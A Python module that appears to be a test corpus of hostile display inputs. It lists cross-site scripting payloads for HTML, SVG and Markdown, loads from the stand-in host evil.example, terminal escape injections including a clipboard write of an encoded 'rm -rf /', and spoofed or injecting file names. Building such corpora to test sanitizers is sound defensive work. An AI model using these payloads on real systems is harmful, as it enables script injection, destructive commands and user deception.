"""Texts meant to attack whoever shows them. Each that runs sets `window.owned` or asks `evil.example` for something."""

from __future__ import annotations

_RUN = "window.owned=1"
_ASK = "//evil.example/x"
ESC, BEL = "\x1b", "\x07"

HTML = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt/x>{_RUN}</sCrIpT>",
    f"<script src={_ASK}></script>",
    f'<img src=x onerror="{_RUN}">',
    f"<img src={_ASK}>",
    f'"><img src=x onerror={_RUN}>',
    f"' onmouseover='{_RUN}' autofocus onfocus='{_RUN}' x='",
    f"<details open ontoggle={_RUN}>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src={_ASK}>",
    f"<link rel=stylesheet href={_ASK}>",
    f"<meta http-equiv=refresh content='0;url={_ASK}'>",
    f"<base href={_ASK}>",
    f"<form action={_ASK}><button autofocus>go</button></form>",
    f"<style>@import '{_ASK}'</style>",
    f'<p style="background:url({_ASK})">styled</p>',
    f"<template shadowrootmode=open><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"</textarea><img src=x onerror={_RUN}>",
    f"</pre></code></section><img src=x onerror={_RUN}>",
    f"<math><mtext></p><mglyph><style><img src=x onerror={_RUN}></style>",
    "<x-element is=y slot=z><slot name=z></slot></x-element>",
)
SVG = (
    f"<svg onload={_RUN}></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x><script>{_RUN}</script></svg>#x'/></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><foreignObject><iframe src=javascript:{_RUN}></iframe></foreignObject></svg>",
    f"<svg><image href={_ASK} /></svg>",
)
MARKDOWN = (
    f"[click](javascript:{_RUN})",
    f"![picture]({_ASK})",
    f"[ref]: javascript:{_RUN}",
    f"<javascript:{_RUN}>",
    f"```html\n<script>{_RUN}</script>\n```",
    f"[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg==) {_RUN}",
    f"| <img src=x onerror={_RUN}> | b |\n|---|---|\n| 1 | 2 |",
    f"`<img src=x onerror={_RUN}>`",
)
ANSI = (
    f"{ESC}]8;;javascript:{_RUN}{ESC}\\link{ESC}]8;;{ESC}\\",
    f"{ESC}]8;;https:{_ASK}{BEL}link{ESC}]8;;{BEL}",
    f"{ESC}]0;<script>{_RUN}</script>{BEL}",
    f"{ESC}]52;c;cm0gLXJmIC8K{BEL}",
    f"{ESC}]1337;File=inline=1:PHN2Zz4={BEL}",
    f"{ESC}[31m<script>{_RUN}</script>{ESC}[0m",
    f"{ESC}[2J{ESC}[H<img src=x onerror={_RUN}>",
    f"{ESC}P+q544e{ESC}\\{ESC}_Gf=100,a=T;iVBORw0KGgo={ESC}\\",
)
NAMES = (
    f"src/<img src=x onerror={_RUN}>.py",
    f"../../{_ASK}/'\"><script>{_RUN}</script>",
    f"javascript:{_RUN}",
    "\u202egnp.\u202dexe\u2066.js",
    f"C:\\<svg onload={_RUN}>\\x",
    "constructor.prototype.__proto__",
    f"{{{{constructor.constructor('{_RUN}')()}}}} ${{{_RUN}}} <%= {_RUN} %>",
    f"?ev=1&tab=<script>{_RUN}</script>#%00",
)
PAYLOADS = (*HTML, *SVG, *MARKDOWN, *ANSI, *NAMES)
